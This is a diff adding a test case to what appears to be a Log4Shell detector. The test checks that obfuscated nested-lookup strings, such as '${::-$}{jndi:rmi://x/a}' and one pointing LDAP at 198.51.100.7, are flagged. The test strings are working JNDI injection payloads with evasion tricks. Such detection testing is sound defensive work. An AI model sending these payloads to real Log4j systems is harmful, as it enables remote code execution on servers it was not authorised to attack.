@@ -105,6 +105,16 @@ describe("expression analyzer: Log4Shell", () => {
     expect(s).toBeLessThan(top("${jndi:ldap://x.example/a}", "log4shell"));
   });
 
+  test("a lookup that resolves to `$` before `{jndi:...}` makes a new lookup: Log4j scans what it resolved again", () => {
+    for (const text of ["${:1337:-x$}{jndi:ldap://198.51.100.7/a}", "${::-$}{jndi:rmi://x/a}", "${::-$}${::-{}jndi:dns://x}"]) {
+      const [h] = jndiHits(text);
+      expect(h?.strength).toBeGreaterThanOrEqual(0.9);
+      expect([h!.start, h!.end]).toEqual([0, text.length]);
+    }
+    // Resolved text with no new lookup, or a lookup that is not JNDI, is nothing.
+    for (const text of ["${::-$}{name}", "${::-$}{env:HOME}", "${::-x}{jndi:ldap://x/a}"]) expect(jndiHits(text)).toEqual([]);
+  });
+
   test("lookups that resolve to something else are not JNDI", () => {
     for (const s of ["${env:HOME}", "${lower:JNDI}", "${sys:user.name:-jn}di", "${java:version}"]) expect(top(s, "log4shell")).toBe(0);
   });
